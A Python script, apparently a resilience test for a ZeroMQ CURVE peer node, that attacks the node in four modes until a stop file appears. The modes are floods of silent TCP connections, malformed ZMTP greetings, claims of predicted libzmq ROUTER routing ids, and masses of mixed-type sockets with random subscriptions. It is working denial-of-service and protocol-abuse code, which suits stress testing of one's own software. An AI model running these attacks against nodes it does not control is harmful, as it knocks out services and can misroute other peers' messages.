"""Attacks a node with connections until a file exists. Arguments: address, what, source address, file.

routing-ids: connections that claim the numbers which libzmq's ROUTER gives, beside ordinary ones that wait for one;
silent: 1,100 TCP connections that send nothing, opened again when the node closes them; garbage: connections that send what
is not the protocol, or half of it; sockets: sockets of other types, with subscriptions and routing ids."""
import os
import resource
import select
import socket
import struct
import sys
import time

from swarm_peer import connect, introduce, zmq

ADDRESS, WHAT, SOURCE, END = sys.argv[1:]
HOST, PORT = ADDRESS.rsplit(":", 1)
GREETING = b"\xff\0\0\0\0\0\0\0\x01\x7f\x03\x01CURVE".ljust(64, b"\0")
HELLO = b"\x04\xc8\x05HELLO\x01\0"
FIRST_ID = 0xE43C9869  # of the second ROUTER of a process


def goes_on(seconds=0.0):
    """Waits; false once the file exists."""
    time.sleep(seconds)
    return not os.path.exists(END)


def tcp():
    s = socket.socket()
    s.setblocking(False)
    s.bind((SOURCE, 0))
    s.connect_ex((HOST, int(PORT)))
    return s


def is_closed(s):
    try:
        return s.recv(4096) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def hold(n, first_bytes):
    """Keeps n connections open, each with the first bytes that first_bytes(i) returns."""
    held, opened = [], 0
    while goes_on(0.01):
        for s in [s for s in held if is_closed(s)]:
            held.remove(s)
            s.close()
        for _ in range(min(200, n - len(held))):
            s = tcp()
            opened += 1
            held.append(s)
            data = first_bytes(opened)
            if data:
                select.select([], [s], [], 0.2)
                try:
                    s.send(data)
                except OSError:
                    pass
    return opened


def zmq_socket(context, key, kind, routing_id=None):
    return connect(context, ADDRESS, key, kind, SOURCE, **({"routing_id": routing_id} if routing_id else {}))


def routing_ids():
    key, context, n = introduce(ADDRESS, SOURCE)[1], zmq.Context(), 0
    context.max_sockets = 2000
    claims = []
    while goes_on(0.02) and n < 200:
        for k in range(4):
            claims.append(zmq_socket(context, key, zmq.DEALER, b"\0" + struct.pack(">I", FIRST_ID + 5 * n + 20 + k)))
        claims.append(zmq_socket(context, key, zmq.DEALER))
        for s in claims[-5:]:
            s.send(b"\x80", zmq.DONTWAIT)
        n += 1
    while goes_on(0.1):
        pass
    context.destroy(0)
    return len(claims)


def sockets():
    key, context, held = introduce(ADDRESS, SOURCE)[1], zmq.Context(), []
    while goes_on(0.02):
        kind = (zmq.SUB, zmq.XSUB, zmq.PUSH, zmq.ROUTER, zmq.REQ, zmq.DEALER)[len(held) % 6]
        s = zmq_socket(context, key, kind, None if kind in (zmq.SUB, zmq.XSUB, zmq.PUSH) else b"\0\0\0\0\1")
        if kind == zmq.SUB:
            for _ in range(100):
                s.subscribe(os.urandom(16))
        held.append(s)
        if len(held) > 60:
            held.pop(0).close(0)
    context.destroy(0)
    return len(held)


def garbage(i):
    return (b"GET / HTTP/1.1\r\n\r\n", GREETING, GREETING[:1 + i % 63], GREETING + HELLO.ljust(202, b"x"), GREETING + b"\x06" + b"\xff" * 8,
            GREETING + HELLO, os.urandom(500), GREETING[:32] + b"\1" + GREETING[33:])[i % 8]


soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
ATTACKS = {"routing-ids": routing_ids, "sockets": sockets, "silent": lambda: hold(1100, lambda i: b""), "garbage": lambda: hold(300, garbage)}
print(f"{WHAT}: {ATTACKS[WHAT]()} connections")
